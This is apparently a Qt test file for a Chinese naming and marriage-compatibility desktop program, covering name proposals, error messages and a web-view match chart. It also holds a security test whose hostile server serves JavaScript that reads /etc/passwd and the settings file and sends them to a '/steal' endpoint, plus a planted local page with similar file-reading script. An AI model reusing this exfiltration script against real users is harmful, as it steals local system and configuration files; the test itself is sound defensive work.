// The naming windows and the marriage window against the real answering
// service (started by the main window on 127.0.0.1), offscreen: proposals in
// the result labels, the match computed and drawn by the marriage pages' own
// script, and the error texts when the service cannot be reached; and a
// hostile marriage server that gets nothing of the machine's files.

#include <httplib.h>

#include <QAction>
#include <QComboBox>
#include <QMenu>
#include <QEventLoop>
#include <QLabel>
#include <QLineEdit>
#include <QPushButton>
#include <QSignalSpy>
#include <QTest>
#include <QTimer>
#include <QWebEnginePage>
#include <QWebEngineView>
#include <filesystem>
#include <fstream>
#include <mutex>

#include "app/bundled_service.h"
#include "app/gradient_progress.h"
#include "app/name_edit.h"
#include "app/radio_group.h"
#include "app/secondary_windows.h"
#include "app/tform1.h"
#include "app/tform11.h"
#include "app/tform6.h"
#include "app/tform9.h"
#include "platform/qt/qt_browser.h"
#include "refdb/settings_file.h"
#include "tests/app/loopback_server.h"
#include "tests/app/recording_dialogs.h"
#include "tests/app/window_test_main.h"
#include "tests/test_folder.h"
#include "text/gbk.h"

using namespace velmora;

namespace {

constexpr int kAnswerMs = 20000;

// The main window with its secondary windows on a program folder, the
// bundled service started.
struct Program {
  explicit Program(const testing::TestFolder& folder) : window(folder.Path(), dialogs) {
    windows = CreateSecondaryWindows(&window);
    window.SetSecondaryWindows(&windows);
    window.Service().WaitUntilReady();
  }
  testing::RecordingDialogs dialogs;
  TForm1 window;
  SecondaryWindows windows{};
};

// The lines of a label that hold proposals ("1. ...").
QStringList Proposals(const QLabel* label) {
  QStringList lines;
  for (const QString& line : label->text().split('\n')) {
    if (!line.isEmpty() && line.front().isDigit() && line.contains(". ")) lines << line;
  }
  return lines;
}

// The name of a proposal line "12. 刘宇轩　天格...".
QString ProposedName(const QString& line) { return line.section(". ", 1).section(QChar(0x3000), 0, 0); }

QVariant Evaluate(QWebEngineView* view, const QString& script) {
  QVariant result;
  QEventLoop loop;
  view->page()->runJavaScript(script, [&](const QVariant& value) {
    result = value;
    loop.quit();
  });
  QTimer::singleShot(5000, &loop, &QEventLoop::quit);
  loop.exec();
  return result;
}

// Fills the marriage form and presses its button.
void AskForMatch(QWebEngineView* view, const QString& man, const QString& manBirth, const QString& woman,
                 const QString& womanBirth) {
  const QStringList m = manBirth.split('-');
  const QStringList w = womanBirth.split('-');
  Evaluate(view, QString("(f => { f.mname.value = '%1'; f.myear.value = '%2'; f.mmonth.value = '%3'; f.mday.value = '%4';"
                         " f.fname.value = '%5'; f.fyear.value = '%6'; f.fmonth.value = '%7'; f.fday.value = '%8';"
                         " f.calc.click(); })(document.forms[0])")
                     .arg(man, m[0], m[1], m[2], woman, w[0], w[1], w[2]));
}

// A marriage server on a free port of 127.0.0.1 that plays foul: every
// script it is asked for reads what a local page might reach (the password
// file by both schemes, the settings file) and sends it back, and takes the
// place of the button's function. It records every request it gets.
class HostileMarriageServer {
 public:
  explicit HostileMarriageServer(const std::string& settingsFile) {
    httplib::Server& routes = server_.Routes();
    const std::string script = HostileScript(settingsFile);
    routes.Get(R"(.*\.js)", [script](const httplib::Request&, httplib::Response& response) {
      response.set_content(script, "text/javascript");
    });
    const auto answer = [](const httplib::Request&, httplib::Response& response) { response.set_content("", "text/plain"); };
    routes.Get(".*", answer);
    routes.Post(".*", answer);
    routes.set_logger([this](const httplib::Request& request, const httplib::Response&) {
      std::string seen = request.method + " " + request.path + " " + request.body;
      for (const auto& [name, value] : request.params) seen += " " + name + "=" + value;
      const std::lock_guard lock(mutex_);
      requests_.push_back(seen);
    });
    server_.Start();
  }
  std::string Base() const { return server_.Base(); }
  std::vector<std::string> Requests() {
    const std::lock_guard lock(mutex_);
    return requests_;
  }

 private:
  std::string HostileScript(const std::string& settingsFile) const {
    return "(function () {\n"
           "  var home = '" + server_.Base() + "/';\n"
           "  function send(what, text) {\n"
           "    var data = what + ' ' + text;\n"
           "    try { fetch(home + 'steal', {method: 'POST', mode: 'no-cors', body: data}); } catch (e) {}\n"
           "    try { new Image().src = home + 'steal?d=' + encodeURIComponent(data); } catch (e) {}\n"
           "  }\n"
           "  function read(url) {\n"
           "    try { var x = new XMLHttpRequest(); x.open('GET', url, false); x.send(); send(url, x.responseText); }\n"
           "    catch (e) { send(url, 'refused'); }\n"
           "    try { fetch(url).then(function (r) { return r.text(); }).then(function (t) { send(url, t); }, function () {}); }\n"
           "    catch (e) {}\n"
           "  }\n"
           "  ['velmora:/etc/passwd', 'file:///etc/passwd', 'velmora:" + settingsFile + "', 'file://" + settingsFile +
           "'].forEach(read);\n"
           "  window.onClick_hunpei = function () { send('button', 'taken'); return false; };\n"
           "})();\n";
  }

  std::mutex mutex_;
  std::vector<std::string> requests_;
  testing::LoopbackServer server_;
};

}  // namespace

class NamingWindowsTest : public QObject {
  Q_OBJECT

 private slots:
  void PersonalNamingShowsTwentyOrMoreNamesOfTheSurname() {
    testing::TestFolder folder;
    testing::CopyBuiltProgramFolder(folder);
    Program program(folder);
    TForm9& form = *program.windows.TForm9;
    program.window.flatedit1->setText(QString::fromUtf8("欧阳娜娜"));
    program.window.FlatButton1->click();  // 女
    form.ShowCentred();
    QCOMPARE(form.Edit1->text(), QString::fromUtf8("欧"));  // the first character of the main window's name
    QCOMPARE(form.RadioGroup1->Caption(), QString::fromUtf8("女"));
    form.Edit1->setText(QString::fromUtf8("欧阳"));
    form.xpbtn1Click();
    QCOMPARE(form.Edit1->text(), QString::fromUtf8("欧"));  // a compound surname is cut to its first character
    QTRY_VERIFY2_WITH_TIMEOUT(Proposals(form.Label1).size() >= 20, qPrintable(form.Label1->text()), kAnswerMs);
    QCOMPARE(form.GradProgress1->Position(), 100);
    for (const QString& line : Proposals(form.Label1)) {
      QVERIFY2(ProposedName(line).size() == 3 && ProposedName(line).startsWith(QString::fromUtf8("欧")),
               qPrintable(line));
    }
    // the introduction before the home-address line comes first, without the address itself
    QVERIFY(form.Label1->text().startsWith(QString::fromUtf8("为欧姓女孩取的三字姓名")));
    QVERIFY(!form.Label1->text().contains("http://"));

    // two characters: the radios of value 2 are ticked
    const QString first = form.Label1->text();
    form.Edit1->setText(QString::fromUtf8("王"));
    form.RadioGroup2->SetItemIndex(1);
    form.xpbtn1Click();
    QTRY_VERIFY_WITH_TIMEOUT(form.Label1->text() != first && Proposals(form.Label1).size() >= 20, kAnswerMs);
    for (const QString& line : Proposals(form.Label1)) {
      QVERIFY2(ProposedName(line).size() == 2 && ProposedName(line).startsWith(QString::fromUtf8("王")),
               qPrintable(line));
    }
    QVERIFY(program.dialogs.messages.empty());
  }

  void PersonalNamingSurnameBoxTakesOnlyChineseCharacters() {
    testing::TestFolder folder;
    testing::CopyBuiltProgramFolder(folder);
    Program program(folder);
    TForm9& form = *program.windows.TForm9;
    form.Edit1->setText(QString::fromUtf8(" 刘 "));
    QCOMPARE(form.Edit1->text(), QString::fromUtf8("刘"));
    form.Edit1->setText(QString::fromUtf8("刘a"));
    QCOMPARE(form.Edit1->text(), QString());
    QCOMPARE(program.dialogs.messages, std::vector<std::string>{"请输入汉字"});
    form.Edit1->setText(QString::fromUtf8("张"));
    QTest::mouseClick(form.Edit1, Qt::LeftButton);
    QCOMPARE(form.Edit1->text(), QString());  // a click empties the box
    form.xpbtn1Click();                       // and a blank box asks for nothing
    QTest::qWait(500);
    QCOMPARE(form.Label1->text(), QString("    "));
  }

  void CompanyNamingShowsTwentyOrMoreNamesOnce() {
    testing::TestFolder folder;
    testing::CopyBuiltProgramFolder(folder);
    Program program(folder);
    TForm11& form = *program.windows.TForm11;
    form.ShowCentred();
    form.Edit1->setText(QString::fromUtf8("张"));
    form.cbb1->setCurrentIndex(4);  // 商品产品销售业
    form.RadioGroup1->SetItemIndex(1);
    form.xpbtn1Click();
    QTRY_VERIFY_WITH_TIMEOUT(Proposals(form.Label1).size() >= 20, kAnswerMs);
    for (const QString& line : Proposals(form.Label1)) QVERIFY2(ProposedName(line).size() == 3, qPrintable(line));
    const QString shown = form.Label1->text();
    QVERIFY(shown.contains(QString::fromUtf8("笔划")));
    // the answer page is not submitted again: the label keeps its proposals
    QTest::qWait(1500);
    QCOMPARE(form.Label1->text(), shown);
    QVERIFY(form.WebBrowser1->Page()->url().path().endsWith("/chest/gs.htm"));

    form.Edit1->setText("  ");
    form.xpbtn1Click();  // a blank surname becomes 刘
    QCOMPARE(form.Edit1->text(), QString::fromUtf8("刘"));
    QTRY_VERIFY_WITH_TIMEOUT(form.Label1->text() != shown && Proposals(form.Label1).size() >= 20, kAnswerMs);
  }

  void ServiceDownShowsTheErrorTexts() {
    testing::TestFolder folder;
    testing::CopyBuiltProgramFolder(folder);
    std::ofstream(folder.Path() + "data/services.ini") << "[naming]\nbase=http://127.0.0.1:9\n";
    Program program(folder);
    TForm9& personal = *program.windows.TForm9;
    personal.xpbtn1Click();
    QTRY_VERIFY_WITH_TIMEOUT(personal.Label1->text().startsWith(QString::fromUtf8("出现错误，请检查：")), kAnswerMs);
    QVERIFY(personal.Label1->text().contains(QString::fromUtf8("3、本功能需要在线，请确认你的机器连接上互联网")));
    TForm11& company = *program.windows.TForm11;
    company.xpbtn1Click();
    QTRY_COMPARE_WITH_TIMEOUT(company.Label1->text(),
                              QString::fromUtf8("请检查：\n\n本功能需要在线，请确认你的机器连接上互联网\n或请稍候网络连接中..."),
                              kAnswerMs);
  }

  void MarriageWindowComputesAndDrawsTheMatch() {
    testing::TestFolder folder;
    testing::CopyBuiltProgramFolder(folder);
    Program program(folder);
    TForm6& form = *program.windows.TForm6;
    struct Case {
      void (TForm1::*command)();
      const char* file;
      const char* applet;
      int width;
      int height;
    };
    const Case cases[] = {
        {&TForm1::N4324321Click, "hpbx1.html", "hunpei", 422, 239},   // page B
        {&TForm1::MenuItem3Click, "hpbx1.html", "hunpeie", 422, 239},  // the same file, now page A
        {&TForm1::MenuItem5Click, "hpbx5.html", "hunpei", 340, 220},   // page C, naming the fourth server
    };
    for (const Case& c : cases) {
      form.WebBrowser1View->setZoomFactor(1.3);
      (program.window.*c.command)();
      QVERIFY(form.isVisible());
      QTRY_VERIFY_WITH_TIMEOUT(form.WebBrowser1View->url().path().endsWith(c.file), kAnswerMs);
      // the new page has loaded: its own applet, no chart yet, its script ready
      QTRY_VERIFY_WITH_TIMEOUT(
          Evaluate(form.WebBrowser1View, "document.getElementsByTagName('applet')[0].getAttribute('code')").toString() ==
                  c.applet &&
              Evaluate(form.WebBrowser1View, "document.getElementById('hunpei_chart') === null").toBool() &&
              Evaluate(form.WebBrowser1View, "typeof onClick_hunpei").toString() == "function",
          kAnswerMs);
      QTRY_COMPARE_WITH_TIMEOUT(form.GradProgress1->Position(), 100, kAnswerMs);
      QTRY_COMPARE_WITH_TIMEOUT(form.WebBrowser1View->zoomFactor(), 1.0, kAnswerMs);  // text size step 2
      AskForMatch(form.WebBrowser1View, QString::fromUtf8("张伟"), "1988-07-16", QString::fromUtf8("李娜"), "2001-02-03");
      const QStringList values =
          Evaluate(form.WebBrowser1View, "document.getElementById('hunpei_chart').getAttribute('data-coefficients')")
              .toString()
              .split(',');
      QCOMPARE(values.size(), 6);
      for (const QString& value : values) QVERIFY(value.toInt() >= 0 && value.toInt() <= 100);
      QCOMPARE(Evaluate(form.WebBrowser1View, "document.getElementById('hunpei_chart').width").toInt(), c.width);
      QCOMPARE(Evaluate(form.WebBrowser1View, "document.getElementById('hunpei_chart').height").toInt(), c.height);
      // the chart stands where the applet stands, and its bars are drawn
      QVERIFY(Evaluate(form.WebBrowser1View,
                       "document.getElementById('hunpei_text').nextElementSibling.tagName").toString() == "APPLET");
      const int painted = Evaluate(form.WebBrowser1View,
                                   "(c => { const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;"
                                   " let n = 0; for (let i = 0; i < d.length; i += 4) if (d[i] > 150 && d[i + 1] < 140) n++;"
                                   " return n; })(document.getElementById('hunpei_chart'))")
                              .toInt();
      QVERIFY2(painted > 1000, qPrintable(QString::number(painted)));
      const QString text = Evaluate(form.WebBrowser1View, "document.getElementById('hunpei_text').innerText").toString();
      for (const char* name : {"姻缘系数", "成婚系数", "性和谐系数", "感情系数", "健康系数", "财运系数"}) {
        QVERIFY2(text.contains(QString::fromUtf8(name)), qPrintable(text));
      }
      QVERIFY(text.contains(QString::fromUtf8("男属龙、女属蛇")));  // the Spring Festival of 2001 was on January 24
    }
  }

  void AHostileMarriageServerGetsNoFileAndTheMatchIsStillOurs() {
    testing::TestFolder folder;
    testing::CopyBuiltProgramFolder(folder);
    const std::string settings = SettingsFilePath(folder.Path());
    const std::string secret = "secret-name-of-the-settings-file";
    testing::WriteFile(settings, "[setup]\r\nname=" + secret + "\r\n");
    HostileMarriageServer hostile(settings);
    testing::WriteFile(folder.Path() + "data/services.ini", "[marriage1]\r\nbase=" + hostile.Base() +
                                                             "\r\n[marriage4]\r\nbase=" + hostile.Base() + "\r\n");
    Program program(folder);
    TForm6& form = *program.windows.TForm6;
    for (void (TForm1::*command)() : {&TForm1::MenuItem3Click, &TForm1::MenuItem5Click}) {
      (program.window.*command)();
      QTRY_VERIFY_WITH_TIMEOUT(Evaluate(form.WebBrowser1View, "typeof onClick_hunpei").toString() == "function" &&
                                   form.GradProgress1->Position() == 100,
                               kAnswerMs);
      // the page names the hostile server, and runs only the program's own script
      QVERIFY(Evaluate(form.WebBrowser1View, "document.getElementsByTagName('applet')[0].getAttribute('codebase')")
                  .toString()
                  .startsWith(QString::fromStdString(hostile.Base())));
      QCOMPARE(Evaluate(form.WebBrowser1View,
                        "Array.from(document.scripts).filter(s => s.src).map(s => s.src.split('/').pop()).join()")
                   .toString(),
               QString("ssbx.js"));
      AskForMatch(form.WebBrowser1View, QString::fromUtf8("张伟"), "1988-07-16", QString::fromUtf8("李娜"), "2001-02-03");
      QCOMPARE(Evaluate(form.WebBrowser1View, "document.getElementById('hunpei_chart').getAttribute('data-coefficients')")
                   .toString()
                   .split(',')
                   .size(),
               6);
    }
    // a local page that names the server's script, as no answer can after
    // the filter, does not run it; a script of its own reads no file either
    testing::WriteFile(folder.Path() + "planted.htm",
                       "<html><body><script src=\"" + hostile.Base() + "/planted.js\"></script><script>"
                       "document.title = ['velmora:/etc/passwd', 'file:///etc/passwd', 'velmora:" + settings + "']"
                       ".map(u => { try { const x = new XMLHttpRequest(); x.open('GET', u, false); x.send();"
                       " return x.responseText.length; } catch (e) { return 'refused'; } }).join();"
                       "</script></body></html>");
    form.WebBrowser1->Navigate(folder.Path() + "planted.htm");
    QTRY_COMPARE_WITH_TIMEOUT(form.WebBrowser1View->title(), QString("refused,refused,refused"), kAnswerMs);
    QCOMPARE(Evaluate(form.WebBrowser1View, "typeof onClick_hunpei").toString(), QString("undefined"));
    // and local pages show no file outside the program's folders, however named
    testing::TestFolder outside;
    testing::WriteFile(outside.Path() + "outside.htm", "<p>outside the program</p>");
    std::filesystem::create_symlink(outside.Path() + "outside.htm", folder.Path() + "inside.htm");
    for (const std::string& page : {outside.Path() + "outside.htm", folder.Path() + "inside.htm"}) {
      QSignalSpy loaded(form.WebBrowser1View, &QWebEngineView::loadFinished);
      form.WebBrowser1->Navigate(page);
      QTRY_VERIFY_WITH_TIMEOUT(!loaded.isEmpty(), kAnswerMs);
      QVERIFY2(!Evaluate(form.WebBrowser1View, "document.body ? document.body.innerText : ''")
                    .toString()
                    .contains("outside the program"),
               page.c_str());
    }
    QTest::qWait(1000);  // time for whatever a script would still send
    for (const std::string& request : hostile.Requests()) {
      QVERIFY2(request.find(".js") == std::string::npos, request.c_str());  // no script of the server was asked for
      QVERIFY2(request.find("root:") == std::string::npos && request.find(secret) == std::string::npos, request.c_str());
    }
  }

  void MarriageFormRefusesAnImpossibleDate() {
    testing::TestFolder folder;
    testing::CopyBuiltProgramFolder(folder);
    Program program(folder);
    TForm6& form = *program.windows.TForm6;
    // the menu entry of server three runs its command
    program.window.PopupMenu2->findChild<QAction*>("N67546451")->trigger();
    QTRY_VERIFY_WITH_TIMEOUT(Evaluate(form.WebBrowser1View, "typeof onClick_hunpei").toString() == "function", kAnswerMs);
    QVERIFY(Evaluate(form.WebBrowser1View, "document.getElementsByTagName('applet')[0].getAttribute('codebase')")
                .toString()
                .endsWith("/suanming/hunpei/"));
    AskForMatch(form.WebBrowser1View, QString::fromUtf8("王强"), "1990-05-01", QString::fromUtf8("赵敏"), "1990-02-30");
    QCOMPARE(Evaluate(form.WebBrowser1View, "document.getElementById('hunpei_text').innerText").toString(),
             QString::fromUtf8("女方的出生日期1990-2-30不存在。"));
    QCOMPARE(Evaluate(form.WebBrowser1View, "document.getElementById('hunpei_chart').style.display").toString(),
             QString("none"));
  }
};

int main(int argc, char** argv) {
  NamingWindowsTest test;
  return testing::RunWindowTest(test, argc, argv);
}

#include "naming_windows_test.moc"
